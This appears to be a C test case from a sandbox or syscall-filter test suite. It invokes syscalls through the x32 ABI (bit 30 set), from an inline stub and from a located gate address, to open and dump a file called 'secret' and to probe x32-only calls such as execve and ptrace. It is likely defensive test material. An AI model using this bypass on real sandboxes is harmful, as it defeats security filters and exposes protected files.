// native: may fail "kernels without the x32 table answer ENOSYS"
// The x32 table: the same calls with bit 30 set.
#include "attack.h"

__asm__(".text\nstub: syscall\n ret\n");
extern char stub[];

int main(int argc, char **argv) {
    (void)argc;
    plan(argv);
    find_gate();
    static char bytes[200];
    const uint64_t places[] = {(uintptr_t)stub, GATE};
    for (int i = 0; i < 2; i++) {
        const long bit = 0x40000000;
        long file = AT(places[i], bit | SYS_openat, AT_FDCWD, secret, O_RDONLY, 0);
        long length = file < 0 ? -1 : AT(places[i], bit | SYS_read, file, bytes, sizeof bytes);
        if (length > 0) AT(places[i], bit | SYS_write, 1, bytes, length);
        // What x32 has for itself: 512 to 547, such as execve and ptrace.
        for (long number = 512; number < 548; number++) AT(places[i], bit | number, 0, 0, 0, 0);
    }
    return 0;
}
